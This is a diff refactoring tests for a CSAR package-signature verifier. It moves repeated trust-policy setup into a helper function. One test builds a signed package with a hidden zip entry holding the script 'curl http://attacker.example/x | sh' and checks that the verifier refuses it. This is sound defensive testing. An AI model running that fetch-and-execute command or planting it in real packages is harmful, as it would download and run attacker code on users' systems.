@@ -369,6 +369,20 @@ def _onap_cert() -> tuple[Path, x509.Certificate]:
     return ONAP / "csar-cert-in-cms-valid.csar", cert
 
 
+def _onap_legacy_policy(tmp_path: Path) -> Path:
+    """ONAP's package signer pinned as vendor ``Acme``, legacy profile."""
+    _, cert = _onap_cert()
+    anchor = tmp_path / "onap.pem"
+    anchor.write_bytes(cert.public_bytes(Encoding.PEM))
+    return policy(
+        tmp_path,
+        anchor,
+        vendor_id="Acme",
+        subject=cert.subject.rfc4514_string(),
+        profile="legacy",
+    )
+
+
 def test_onap_package_under_the_legacy_profile(tmp_path: Path) -> None:
     package, cert = _onap_cert()
     anchor = tmp_path / "onap.pem"
@@ -411,16 +425,7 @@ def test_onap_package_under_the_legacy_profile(tmp_path: Path) -> None:
     ],
 )
 def test_onap_packages_that_fail(tmp_path: Path, name: str, check: str) -> None:
-    _, cert = _onap_cert()
-    anchor = tmp_path / "onap.pem"
-    anchor.write_bytes(cert.public_bytes(Encoding.PEM))
-    pol = policy(
-        tmp_path,
-        anchor,
-        vendor_id="Acme",
-        subject=cert.subject.rfc4514_string(),
-        profile="legacy",
-    )
+    pol = _onap_legacy_policy(tmp_path)
     code, report = verify_json(ONAP / name, pol, "2020-09-25T00:00:00Z")
     assert code == ExitCode.VERIFICATION_FAILED
     assert check in failed(report)
@@ -534,7 +539,7 @@ def test_a_hidden_entry_in_a_signed_package_is_refused(
     """
     import zlib
 
-    package, cert = _onap_cert()
+    package, _ = _onap_cert()
     script = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
     name = b"Files/Scripts/my_script.sh"
     local = (
@@ -550,15 +555,7 @@ def test_a_hidden_entry_in_a_signed_package_is_refused(
     hidden.write_bytes(_hide(package.read_bytes(), local, first=first))
     with zipfile.ZipFile(hidden) as z:  # zipfile reads it, the hidden file unseen
         assert z.namelist() == zipfile.ZipFile(package).namelist()
-    anchor = tmp_path / "onap.pem"
-    anchor.write_bytes(cert.public_bytes(Encoding.PEM))
-    pol = policy(
-        tmp_path,
-        anchor,
-        vendor_id="Acme",
-        subject=cert.subject.rfc4514_string(),
-        profile="legacy",
-    )
+    pol = _onap_legacy_policy(tmp_path)
     at = "2020-09-25T00:00:00Z"
     assert verify_json(package, pol, at)[0] == ExitCode.OK
     result = invoke("verify", hidden, "--policy", pol, "--at", at)
